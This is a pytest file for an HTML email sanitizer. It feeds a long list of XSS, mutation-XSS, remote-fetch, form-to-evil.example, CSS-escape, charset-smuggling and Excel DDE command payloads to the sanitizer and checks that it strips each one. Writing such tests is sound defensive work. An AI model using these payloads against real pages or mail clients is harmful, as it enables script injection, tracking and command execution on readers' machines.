"""Web pages: what acts goes, the text stays, and a clean page is the same bytes."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailguard.formats.detect import detect
from mailguard.formats.disarmed import KEPT, Disarmed, Options, Refused
from mailguard.formats.html import css
from mailguard.formats.html import disarm as html
from mailguard.message.content import Content

_CLEAN = (
    b'<!DOCTYPE html>\r\n<html><head><meta charset="utf-8"><title>Report</title><style>p { color: red }</style></head>'
    b'<body bgcolor=white><p style="margin: 0 1em">Hello &amp; welcome, <a href="https://example.com/?a=1&amp;b=2">here</a>'
    b'<img src="cid:logo@example" alt="logo"><o:p></o:p><!-- note --></p></body></html>\r\n'
)
_THREATS = {
    "script": b"<script>evil()</script>",
    "handler": b"<img src=cid:a onerror=evil()>",
    "handler without blank": b'<img src="cid:a"onerror=evil()>',
    "javascript link": b'<a href="java&#10;script:evil()">x</a>',
    "data link": b'<a href="data:text/html,evil">x</a>',
    "form": b"<form action=http://evil.example/><input name=p></form>",
    "frame": b"<iframe src=http://evil.example/></iframe>",
    "svg": b"<svg onload=evil()><script>evil()</script></svg>",
    "math": b"<math><mi xlink:href=javascript:evil()>x</mi></math>",
    "object": b"<object data=evil.swf></object>",
    "refresh": b'<meta http-equiv=refresh content="0;url=http://evil.example/">',
    "base": b"<base href=http://evil.example/>",
    "stylesheet": b"<link rel=stylesheet href=http://evil.example/>",
    "remote picture": b"<img src=http://evil.example/1.gif>",
    "set of pictures": b'<img srcset="http://evil.example/1.gif 1x">',
    "share": b"<img src=//evil.example/share/a.png>",
    "style address": b'<p style="background: url(http://evil.example/1.gif)">x</p>',
    "style escape": b'<p style="background: u\\72l(http://evil.example/1.gif)">x</p>',
    "style program": b'<p style="width: expression(evil())">x</p>',
    "style import": b"<style>@import 'http://evil.example/';</style>",
    "download": b'<a href="data:application/zip;base64,UEsD" download="evil.zip">x</a>',
    "condition": b"<!--[if mso]><img src=http://evil.example/1.gif><![endif]-->",
    "open comment": b"<!--><script>evil()</script>-->",
    "instruction": b'<?import namespace="t" implementation="#default#time2">',
    "noscript": b'<noscript><p title="</noscript><img src=x onerror=evil()>"></noscript>',
    "stray quote": b'<img width=1"><p title="onclick=evil()">x',
    "template": b"<template><script>evil()</script></template>",
    "blob link": b'<a href="blob:http://evil.example/y">x</a>',
    "ping": b'<a href="http://ok.example/" ping="http://evil.example/">x</a>',
    "link to a share": b'<a href="//evil.example/x">x</a>',
    "link to a program": b'<a href="ms-word:ofe|u|http://evil.example">x</a>',
    "link by backslashes": b'<a href="http:\\\\evil.example">x</a>',
    "preload": b'<link rel=preload as=image imagesrcset="http://evil.example/">',
    "SVG as a picture": b'<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "input as a picture": b"<input type=image src=http://evil.example/ formaction=javascript:evil()>",
    "frame of its own": b'<iframe srcdoc="<script>evil()</script>"></iframe>',
    "smuggling": b"<script>var b=new Blob([atob('TVo')]);</script>",
    "background": b'<table background="//evil.example/x.png"></table>',
    "film": b"<video poster=http://evil.example/></video>",
    "hidden style": b"<svg></p><style><a id='</style><img src=1 onerror=evil()>'>",
    "hidden glyph": b'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil()&gt;">',
    "hidden form": b"<form><math><mtext></form><form><mglyph><style></math><img src onerror=evil()>",
    "hidden textarea": b'<div><textarea><img title="</textarea><img src=x onerror=evil()>"></div>',
    "hidden select": b"<select><style></select><img src=x onerror=evil()></style>",
    "sloppy comment": b"<!-- x --!><img src=x onerror=evil()>-->",
    "sloppy section": b"<![CDATA[><img src=x onerror=evil()>]]>",
    "slash for blank": b"<a/onclick=evil()/href=#>x</a>",
    "form feed for blank": b"<img\x0csrc=cid:a\x0conerror=evil()>",
    "NUL in a name": b"<img src=cid:a on\0error=evil()>",
    "prefix": b'<o:script xmlns:o="http://www.w3.org/1999/xhtml">evil()</o:script>',
    "template of Word": b'<!--[if mso]><xml><w:WordDocument><w:AttachedTemplate HRef="http://evil.example/x.dot"/></w:WordDocument></xml><![endif]-->',
    "query of Excel": b"<!--[if mso]><xml><x:QueryTable><x:Connection>http://evil.example</x:Connection></x:QueryTable></xml><![endif]-->",
    "drawing of Word": b'<!--[if gte mso 9]><v:rect><v:fill src="http://evil.example/"/></v:rect><![endif]-->',
    "formula of Excel": b"<table><tr><td x:fmla=\"=cmd|'/c evil'!A0\">x</td></tr></table>",
    "set of addresses": b"<p style=\"background:image-set('http://evil.example/' 1x)\">x</p>",
    "address by function": b"<p style=\"background:src('http://evil.example/')\">x</p>",
    "address by name": b"<style>p{--x:url(http://evil.example/);background:var(--x)}</style>",
    "address of a font": b"<style>@font-face{font-family:x;src:url(http://evil.example/)}</style>",
    "pointer": b'<p style="cursor:url(http://evil.example/),auto">x</p>',
    "style by escape": b'<p style="beh\\61vior:url(evil.htc)">x</p>',
    "unclosed style": b'<p style="font-family:\'x;background:url(http://evil.example/)">x</p>',
    "filter": b"<p style=\"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://evil.example/')\">x</p>",
    "frame hidden in a comment by a stray quote": b'<img width=1""><!-- <iframe name=x></iframe> -->',
    "base hidden in a comment by a stray quote": b'<img width=1""><!-- <base href="http://evil.example/"> -->',
    "style hidden in a comment by a stray quote": b"<img width=1\"\"><!-- <style>p{background:url('http://evil.example/')}</style> -->",
    "action behind a stray quote": b'<img width=1""><p title=" action=evil()">x</p>',
    "colour that is a handler": b'<font color="1"onmouseover=evil() >x</font>',
    "data binding": b"<span datasrc=#x datafld=y dataformatas=html>x</span>",
    "unknown element with an address": b'<tr:ad src="http://evil.example/"></tr:ad>',
    "unknown attribute with an address": b'<p mreach="http://evil.example/">x</p>',
    "any prefix": b"<tr:script>evil()</tr:script>",
    "drawing by any prefix": b'<q:imagedata name="x"/>',
    "background that is a word": b"<table background=evil></table>",
}


class _Reader(HTMLParser):
    """An independent reader: what would act, be fetched or be sent."""

    def __init__(self) -> None:
        super().__init__()
        self.text = ""
        self.found: list[str] = []

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "form", "input", "iframe", "svg", "math", "object", "base", "link", "template", "embed"}:
            self.found.append(tag)
        for name, value in attrs:
            target = "".join((value or "").split()).lower()
            remote = name in {"src", "srcset", "background", "style"} and ("//" in target or "expression" in target)
            if name.startswith("on") or remote or name == "download" or (name == "http-equiv" and target == "refresh"):
                self.found.append(name)
            if name == "href" and not target.startswith(("http", "mailto:", "tel:", "#")) and target:
                self.found.append(target)


def _read(data: bytes) -> _Reader:
    reader = _Reader()
    reader.feed(data.decode())
    reader.close()
    return reader


def _disarm(data: bytes, mime: str = "text/html", kept: frozenset[str] = KEPT) -> Disarmed:
    return html.disarm(data, mime, Options(kept))


def test_a_clean_page_comes_back_as_the_same_bytes():
    result = _disarm(_CLEAN)
    assert result.data is _CLEAN
    assert result.removed == ()


@pytest.mark.parametrize("threat", _THREATS.values(), ids=_THREATS.keys())
def test_what_acts_is_gone_and_the_text_around_it_stays(threat):
    page = b"<html><body><p>before</p>" + threat + b"<p>after</p></body></html>"
    result = _disarm(page)
    assert result.removed
    reader = _read(result.data)
    assert reader.found == []
    assert b"evil.example" not in result.data
    assert "before" in reader.text
    assert detect(Content.of(result.data), ["a.html"], "text/html").dangerous == ()
    again = _disarm(result.data)
    assert again.removed == ()
    assert again.data is result.data


@pytest.mark.parametrize(
    "markup",
    [
        b"<!--[if !mso]><!--><p>x</p><!--<![endif]-->",
        b"<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->",
        b'<!--[if gte mso 9]><xml><w:LatentStyles DefLockedState="false"></w:LatentStyles></xml><![endif]-->',
        b'<tr:ad name="copyright" /><computername><a href="http://example.com/" mreach_id="hyperlink2">x</a>',
        b'<img src="cid:a" align=middle order="0"><img src="/b.gif" width="1">',
        b'<hr size=1 width="80% noshade align="left"><a href="http://example.com/?a=1&brand=x">Subscription</a>',
        b'<td width="100%" height="1""><a href="http://example.com/?type=1&action=show">x</a></td>',
        b"<a href=http://example.com/?p=1=2>regular expressions and descriptions \\ more</font\n<p>x",
        b"<CHRIS@EXAMPLE.COM></i></b>wrote:<code1=x><!-- manage your subscription -->",
    ],
)
def test_what_office_and_newsletters_write_stays(markup):
    page = b"<html><body><p>before</p>" + markup + b"</body></html>"
    assert _disarm(page).data is page


def test_remote_pictures_and_links_follow_the_options():
    page = b'<p><img src="http://example.com/a.png"><a href="http://example.com/">x</a></p>'
    assert _disarm(page, kept=KEPT | {"remote_images"}).data is page
    assert _disarm(page).removed == ("remote-image",)
    assert b"href" not in _disarm(page, kept=frozenset()).data


@pytest.mark.parametrize(
    ("content", "mime"),
    [
        (b"+ADw-script+AD4-evil()+ADw-/script+AD4-", "text/html; charset=utf-7"),
        ("<script>evil()</script><p>x</p>".encode("utf-16-le"), "text/html; charset=utf-16"),
        ("\ufeff<script>evil()</script><p>x</p>".encode("utf-16-be"), "text/html"),
        (b"<p>\x1b$B<script>evil()</script>\x1b(B</p>", "text/html; charset=iso-2022-jp"),
        (b"<p>\xc0\xbcscript>evil()</p>", "text/html; charset=utf-8"),
        (b"<p>+ADw-script+AD4-evil()</p>", "text/html"),
    ],
)
def test_misleading_encodings_become_plain_utf_8(content, mime):
    result = _disarm(content, mime)
    assert result.removed
    assert _read(result.data).found == []
    assert result.data.startswith(b'<!DOCTYPE html>\n<html><head><meta charset="utf-8">')


def test_japanese_pages_in_their_own_encodings_stay_as_they_are():
    for charset in ("utf-8", "shift_jis", "euc-jp", "iso-2022-jp"):
        page = "<html><body><p>請求書を送ります。表示と能力</p></body></html>".encode(charset)
        assert _disarm(page, f"text/html; charset={charset}").data is page


def test_text_in_a_japanese_encoding_is_kept_when_something_goes():
    result = html.disarm_body("<p onclick=x>請求書</p>".encode("cp932"), "shift_jis", Options())
    assert "請求書" in result.data.decode("utf-8")


@pytest.mark.parametrize(
    "rules",
    [
        "p { color: red",
        "a{b:url(javascript:x)}",
        "@import url(x);",
        "a{}b{color:\\65 x}",
        "x{background:url('//h/a.png')}",
    ],
)
def test_style_sheets_keep_nothing_that_is_fetched_or_not_understood(rules):
    kept = css.sheet(rules, Options())
    assert kept != rules
    assert "url" not in kept
    assert css.sheet(kept, Options()) == kept


@pytest.mark.parametrize(
    "page",
    [
        b"<div onclick=x>" * 5_000,
        b"<b><i><font onclick=x>" * 1_000 + b"</b></i></font>" * 1_000,
        b"<p " + b" ".join(b"a%d=x" % number for number in range(1_000)) + b">",
    ],
)
def test_elements_without_end_are_refused(page):
    with pytest.raises(Refused, match="bomb"):
        _disarm(page)


def test_too_large_a_page_is_refused():
    with pytest.raises(Refused, match="over-limit"):
        _disarm(b"a" * ((16 << 20) + 1))


_PIECES = st.sampled_from(
    [b"<", b">", b'"', b"'", b"=", b" ", b"/", b"<!--", b"-->", b"<style>", b"</style>", b"url(", b"<p", b"<img src", b"on", b"x",
     b"<script", b"&#106;", b"\x00", b"\x1b$B", b"\xff\xfe", b"{", b"}", b";", b"/*", b"*/", b"<title>", b"<![if x]>", b"\\"]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(_PIECES, max_size=60).map(b"".join))
def test_any_page_is_refused_or_harmless_and_made_only_once(page):
    result = _disarm(page)
    assert _disarm(page).data == result.data
    if result.removed:
        assert _read(result.data).found == []


_RULES = st.sampled_from(
    [
        "a",
        "{",
        "}",
        ":",
        ";",
        "color",
        "red",
        "url(",
        ")",
        "'",
        '"',
        "\\",
        "/*",
        "*/",
        "@import",
        "@media",
        "//h/a.png",
        "<",
        "var(",
    ]
)


@settings(max_examples=200, deadline=None)
@given(st.lists(_RULES, max_size=30).map("".join))
def test_any_style_sheet_is_made_harmless_once(rules):
    kept = css.sheet(rules, Options())
    bare = re.sub(r"\"(?:[^\"\\\n]|\\.)*\"|'(?:[^'\\\n]|\\.)*'", "", kept)
    assert "@import" not in bare
    assert not re.search(r"url\([^)]*//", bare)
    assert css.sheet(kept, Options()) == kept
    assert css.declarations(css.declarations(rules, Options()), Options()) == css.declarations(rules, Options())
